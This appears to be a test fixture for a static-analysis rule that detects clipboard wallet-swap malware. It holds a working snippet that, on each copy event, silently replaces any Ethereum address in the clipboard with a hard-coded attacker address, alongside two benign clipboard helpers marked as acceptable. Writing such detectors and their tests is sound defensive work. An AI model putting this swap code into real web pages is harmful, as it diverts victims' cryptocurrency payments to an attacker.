const ETH = /\b0x[a-fA-F0-9]{40}\b/;
document.addEventListener('copy', async () => {
  const t = await navigator.clipboard.readText();
  if (ETH.test(t)) {
    // ruleid: generic-clipboard-wallet-swap
    await navigator.clipboard.writeText(t.replace(ETH, '0x9F2b1E6c3A7d84F0e5B6C1d2A3f4E5b6C7d8E9f0'));
  }
});

export function copyCode(pre) {
  // ok: generic-clipboard-wallet-swap
  return navigator.clipboard.writeText(pre.textContent);
}

export function copyAddress(addr) {
  if (!ETH.test(addr)) throw new Error('not an address');
  // ok: generic-clipboard-wallet-swap
  return navigator.clipboard.writeText(addr);
}
